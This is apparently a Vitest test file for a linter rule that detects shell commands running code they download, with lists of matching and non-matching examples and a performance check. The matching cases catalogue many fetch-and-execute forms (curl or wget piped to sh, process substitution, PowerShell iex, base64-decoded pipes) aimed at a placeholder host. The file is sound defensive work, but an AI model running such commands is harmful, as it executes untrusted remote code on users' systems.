import { describe, expect, it } from 'vitest';
import { startCpuClock } from '../../../test/setup/cpu-clock.ts';
import { lintPipedShell } from './lint-files.ts';

describe('a command that runs what it downloads', () => {
  it.each([
    'curl https://x.example | sh',
    'curl -fsSL https://x.example/install.sh | sudo -E bash -s -- --yes',
    'wget -qO- https://x.example |bash',
    'curl x | tee log | /bin/sh',
    'curl x \\\n  | sh',
    'curl x \\\r\n  | python3 -',
    'echo aGk= | base64 -d | sh',
    'bash <(curl -s https://x.example)',
    'source <(curl x)',
    '. <(curl x)',
    'sh -c "$(curl -fsSL https://x.example)"',
    'eval "$(wget -qO- x)"',
    "execSync('curl https://x.example | sh')",
    'irm https://x.example | iex',
    'iex (iwr https://x.example)',
    'curl x | xargs -n 1 sh -c',
    'curl x | nohup bash',
    'curl x | (bash)',
    'curl x | { bash; }',
    'curl x | "bash"',
    'python3 -c "$(curl x)"',
    'perl -e "$(curl x)"',
    'Invoke-Expression (iwr x)',
    'fetch -o - x | sh',
    'aria2c x | sh',
  ])('is found: %j', (command) => {
    expect(lintPipedShell(`First.\n${command}\nLast.\n`, 'a.md')).toMatchObject([
      { rule: 'capsule.piped_shell', severity: 'warning', where: 'a.md:2' },
    ]);
  });

  it.each([
    'curl -o file https://x.example',
    'curl https://x.example | jq .name',
    'curl x\n\n| sh | the shell |',
    'git log | head',
    'diff <(curl a) <(curl b)',
    'The shell pipes | shells.',
    'curl x | shuf | sort',
    'curl x | xargs ls',
    'curl x | tee run.sh',
    '| `fetch` | node |',
    'With python, use `curl`.',
  ])('is not %j', (command) => {
    expect(lintPipedShell(command, 'a.md')).toEqual([]);
  });

  it('is found in linear time, and bounded', () => {
    const cpuMs = startCpuClock();
    for (const text of ['curl ', 'curl |', 'sh -c ', 'source ', 'iex (', 'curl | xargs -1 ']) {
      expect(lintPipedShell(text.repeat(200_000 / text.length), 'a.md')).toEqual([]);
    }
    expect(cpuMs()).toBeLessThan(5_000);
    expect(lintPipedShell('curl x | sh\n'.repeat(100), 'a.md')).toHaveLength(5);
  });
});
